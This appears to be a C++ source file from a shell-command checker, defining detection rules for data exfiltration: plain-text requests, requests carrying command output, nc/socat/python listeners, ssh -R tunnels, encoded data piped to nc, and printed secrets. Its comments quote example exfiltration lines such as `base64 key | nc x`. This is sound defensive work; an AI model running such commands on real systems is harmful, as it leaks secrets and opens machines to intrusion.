// Signs of exfiltration: unencrypted requests, computed addresses, listening ports, secrets in the
// output.
#include <algorithm>
#include <array>

#include "base/names.h"
#include "decide/arguments.h"
#include "decide/detours.h"
#include "decide/glob.h"
#include "decide/network.h"
#include "decide/origin.h"
#include "decide/signs.h"
#include "decide/this_machine.h"
#include "parse/letters.h"

namespace husk::decide {
namespace {

using parse::Command;
using parse::Piece;
using parse::Word;

constexpr double likely = 0.7;

// http://host, ftp://host. Programs that fetch take an address without a scheme for http.
bool is_plain(const Word& url, bool may_lack_scheme) {
    const std::string start = url.known_start();
    const size_t end = start.find("://");
    if (end == std::string::npos) return may_lack_scheme && !start.empty();
    return is_one_of(parse::lowered(start.substr(0, end)),
                     "http ftp tftp telnet gopher dict ldap smtp");
}

bool goes_through_proxy(const Scene& scene) {
    return leads_request_away(scene.command) || may_have_proxy(scene);
}

// An encrypted download is an everyday command. A plain one can be read and changed on its way.
std::optional<std::string> plain_request(const Scene& scene) {
    const std::string program = scene.command.program();
    if (program == "telnet") {
        const Arguments arguments = read_arguments(arguments_of(scene.command), {"lnbe"});
        const bool leaves =
            !arguments.operands.empty() && !is_this_machine(arguments.operands.front());
        return found_if(leaves, scene.command.text);
    }
    if (!downloads(scene.command)) return std::nullopt;
    const std::vector<Word> urls = urls_of(scene.command);
    const bool may_lack_scheme = urls.size() == 1 && is_one_of(program, "curl wget wget2");
    for (const Word& url : urls)
        if (is_plain(url, may_lack_scheme) && (!is_this_machine(url) || goes_through_proxy(scene)))
            return url.shown();
    return std::nullopt;
}

bool is_computed(const Word& word) {
    return !is_added_later(word) && std::ranges::any_of(word.pieces, [](const Piece& piece) {
        return piece.kind == Piece::Kind::Substitution || piece.kind == Piece::Kind::Process;
    });
}

// curl "https://x/?q=$(id)", dig "$(hostname).x": the output of a command goes along.
std::optional<std::string> computed_request(const Scene& scene) {
    const Command& command = scene.command;
    std::vector<Word> words;
    if (is_one_of(command.program(), "dig nslookup host drill ping ping6 traceroute whois")) {
        const auto all = arguments_of(command);
        words.assign(all.begin(), all.end());
    } else if (downloads(command)) {
        words = urls_of(command);
        if (std::ranges::all_of(words, [](const Word& url) { return is_this_machine(url); }) &&
            !goes_through_proxy(scene))
            return std::nullopt;
        std::ranges::move(sent_words(command), std::back_inserter(words));
    }
    return found_if(std::ranges::any_of(words, is_computed), command.text);
}

// An address to wait at: 0.0.0.0 is each of this machine's.
bool is_open_to_all(const Word& address) {
    const std::string text = address.known_start();
    return text.starts_with("0.0.0.0") || text == "0" || text.starts_with("0:") ||
           !is_this_machine(address);
}

// php -S 0.0.0.0:80
bool serves_php(const Command& command) {
    if (!command.program().starts_with("php")) return false;
    const Arguments arguments = read_arguments(arguments_of(command), {"cdfrBREFStz"});
    const Word* address = arguments.value_of("S");
    return address != nullptr && is_open_to_all(*address);
}

// python3 -m http.server, python -m SimpleHTTPServer
bool serves_files(const Command& command) {
    if (!command.program().starts_with("python")) return false;
    static constexpr std::array<std::string_view, 3> with_value = {"bind", "directory", "protocol"};
    const Arguments arguments = read_arguments(arguments_of(command), {"mbdpWX", with_value});
    const Word* module = arguments.value_of("m");
    if (module == nullptr || !is_one_of(module->shown(), "http.server SimpleHTTPServer"))
        return false;
    const Word* address = arguments.value_of(arguments.has("b") ? "b" : "bind");
    return address == nullptr || is_open_to_all(*address);
}

std::optional<std::string> listener(const Scene& scene) {
    if (serves_files(scene.command) || serves_php(scene.command)) return scene.command.text;
    const std::string program = scene.command.program();
    if (is_one_of(program, "nc ncat netcat nc.openbsd nc.traditional")) {
        const Arguments arguments =
            read_arguments(arguments_of(scene.command), {"ceIiMmOPpqsTVWwXx"});
        return found_if(arguments.has("l") || arguments.has("listen", 2), scene.command.text);
    }
    const std::vector<std::string> kinds = socat_address_types(scene.command);
    const bool listens = std::ranges::any_of(kinds, [](const std::string& kind) {
        return kind.ends_with("-listen") || kind.ends_with("-recvfrom") || kind.ends_with("-l");
    });
    return found_if(listens, scene.command.text);
}

// ssh -R: users of the other machine can connect to this one.
std::optional<std::string> way_back(const Scene& scene) {
    if (!is_one_of(scene.command.program(), "ssh autossh")) return std::nullopt;
    const Arguments arguments =
        read_arguments(arguments_of(scene.command), {"BbcDEeFIiJLlmOopQRSWw"});
    return found_if(arguments.has("R"), scene.command.text);
}

bool encodes(const Command& command) {
    const std::string program = command.program();
    const Arguments arguments = read_arguments(arguments_of(command));
    if (is_one_of(program, "base64 base32 basenc"))
        return !arguments.has("d") && !arguments.has("D") && !arguments.has("decode", 1);
    if (program == "openssl") {
        const bool makes = std::ranges::any_of(command.words, [](const Word& word) {
            return is_one_of(word.shown(), "enc base64 smime cms pkeyutl");
        });
        return makes &&
               std::ranges::none_of(command.words, [](const Word& word) { return word.is("-d"); });
    }
    return program == "gpg" &&
           (arguments.has("c") || arguments.has("e") || arguments.has("encrypt", 2));
}

bool encrypts(const Command& command) {
    return encodes(command) && is_one_of(command.program(), "openssl gpg") &&
           std::ranges::none_of(command.words, [](const Word& word) { return word.is("base64"); });
}

// Encrypted data is for somebody else, whatever it goes through first.
std::optional<std::string> encrypted(const Scene& scene) {
    const bool keeps = scene.command.program() == "tee";
    return found_if(!keeps && is_piped_from(scene, encrypts), scene.command.text);
}

// `base64 key | nc x`: encoded data goes to a program that does more than show, store or filter it.
std::optional<std::string> encoded(const Scene& scene) {
    const std::string program = scene.command.program();
    const bool keeps = is_one_of(
        program,
        "cat tac head tail wc tr fold less more cut grep sort uniq tee sed awk jq sha256sum "
        "sha1sum md5sum base64 base32 xxd od gzip gunzip openssl gpg split paste column diff cmp "
        "echo printf read true test");
    if (program.empty()) return std::nullopt;
    if (keeps) return encrypted(scene);
    return found_if(is_piped_from(scene, encodes), scene.command.text);
}

std::optional<std::string> shown_secret(const Scene& scene) {
    const bool shows = is_one_of(
        scene.command.program(),
        "cat tac head tail less more grep sed awk base64 base32 xxd od hexdump strings tar zip");
    return found_if(shows && gives_secrets(scene.command, scene.context), scene.command.text);
}

constexpr std::array checks = {
    Check{"exfiltration/plain-request", Decision::Allow, Severity::High, likely,
          "Anybody on the way can read and change this request to another machine ({}).",
          "Use https.", plain_request},
    Check{"exfiltration/computed-request", Decision::Allow, Severity::High, likely,
          "The request carries the output of a command to another machine ({}).",
          "Write out what is to be sent.", computed_request},
    Check{"exfiltration/listener", Decision::Allow, Severity::High, likely,
          "This waits for connections of other machines ({}).", "", listener},
    Check{"exfiltration/way-back", Decision::Allow, Severity::High, likely,
          "This lets another machine connect to this one ({}).", "", way_back},
    Check{"exfiltration/encoded", Decision::Allow, Severity::High, likely,
          "Data is encoded and handed on ({}).", "", encoded},
    Check{"exfiltration/secret-shown", Decision::Allow, Severity::High, likely,
          "The output has passwords or keys, and goes to whoever reads the result ({}).",
          "Look at names, not at values.", shown_secret},
};

}  // namespace

constinit const Pack exfiltration_signs = {
    .name = "exfiltration",
    .about = "data that leaves this machine",
    .on_by_default = false,
    .checks = checks,
};

}  // namespace husk::decide
